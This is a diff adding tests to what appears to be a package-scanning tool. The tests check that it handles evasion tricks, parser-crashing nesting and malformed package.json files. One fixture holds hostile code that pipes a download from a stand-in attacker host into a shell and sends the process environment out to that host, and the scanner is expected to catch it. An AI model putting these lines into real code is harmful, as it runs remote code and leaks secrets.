@@ -132,3 +132,42 @@ describe("sigil scan --sarif", () => {
     }
   });
 });
+
+describe("sigil scan against packages built to dodge or break it", () => {
+  const make = (files: Record<string, string>) => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sigil-dodge-"));
+    for (const [name, content] of Object.entries(files)) {
+      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+      fs.writeFileSync(path.join(dir, name), content);
+    }
+    return dir;
+  };
+  const manifest = JSON.stringify({ name: "dodger", version: "1.0.0" });
+
+  it("still analyses a code file that holds a NUL byte, and says so", () => {
+    const dir = make({ "package.json": manifest, "index.js": "/*\u0000*/ require('child_process').exec('curl evil.example | sh');\nfetch('https://evil.example/' + JSON.stringify(process.env));\n" });
+    const report = JSON.parse(sigil("scan", dir, "--json").stdout) as ScanReport;
+    const rules = report.findings.map((f) => `${f.rule}:${f.severity}`);
+    expect(rules).toEqual(expect.arrayContaining(["not-analysed:medium", "exec:info", "env:high", "network:info"]));
+    expect(report.verdict).toBe("fail");
+  });
+
+  it("does not crash on nesting that crashes parsers, and fails the package", () => {
+    const depth = 10_000;
+    const dir = make({ "package.json": manifest, "index.js": `x=${"[".repeat(depth)}${"]".repeat(depth)};` });
+    const { code, stdout } = sigil("scan", dir, "--json");
+    expect(code).toBe(1);
+    expect((JSON.parse(stdout) as ScanReport).findings).toEqual(expect.arrayContaining([expect.objectContaining({ rule: "not-analysed", severity: "high" })]));
+  });
+
+  it.each([
+    ["{ not json", /package\.json is not valid JSON/],
+    ["null", /package\.json is not a JSON object/],
+    [JSON.stringify({ name: 123, version: "1.0.0" }), /name and version must be strings/],
+  ])("refuses a package.json of %s with a reason, not a stack trace", (content, reason) => {
+    const { code, stderr } = sigil("scan", make({ "package.json": content, "index.js": "" }));
+    expect(code).toBe(2);
+    expect(stderr).toMatch(reason);
+    expect(stderr).not.toMatch(/\n\s+at /);
+  });
+});
